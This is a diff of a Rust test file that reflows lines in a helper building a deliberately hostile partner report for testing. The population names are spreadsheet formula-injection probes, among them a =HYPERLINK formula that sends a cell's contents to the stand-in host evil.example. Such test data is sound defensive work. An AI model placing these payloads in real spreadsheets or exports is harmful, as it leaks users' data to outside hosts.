@@ -31,9 +31,12 @@ fn my_export() -> Dataset {
 
 /// A partner whose every string is hostile; it matches my first three rows.
 fn hostile_report(d: &Dataset) -> Report {
-    let partner_pops = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")", "  @SUM(A1)", "＋A1", "-2+3", "\u{200B}=1", "Prospects"];
-    let partner_pops: Vec<Population> = partner_pops.iter().map(|n| Population { name: n.to_string(), size: 10, role: PopulationRole::Other }).collect();
-    let my_pops: Vec<Population> = d.populations().iter().map(|n| Population { name: n.clone(), size: 4, role: PopulationRole::Other }).collect();
+    let partner_pops =
+        ["=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")", "  @SUM(A1)", "＋A1", "-2+3", "\u{200B}=1", "Prospects"];
+    let partner_pops: Vec<Population> =
+        partner_pops.iter().map(|n| Population { name: n.to_string(), size: 10, role: PopulationRole::Other }).collect();
+    let my_pops: Vec<Population> =
+        d.populations().iter().map(|n| Population { name: n.clone(), size: 4, role: PopulationRole::Other }).collect();
     let matched = ["domain:debora.se", "domain:evilcorp.com", "domain:acme.com"];
     let key_matches: Vec<Option<u16>> =
         d.keys().iter().map(|k| matched.contains(&k.to_string().as_str()).then_some(0b11_1111)).collect();
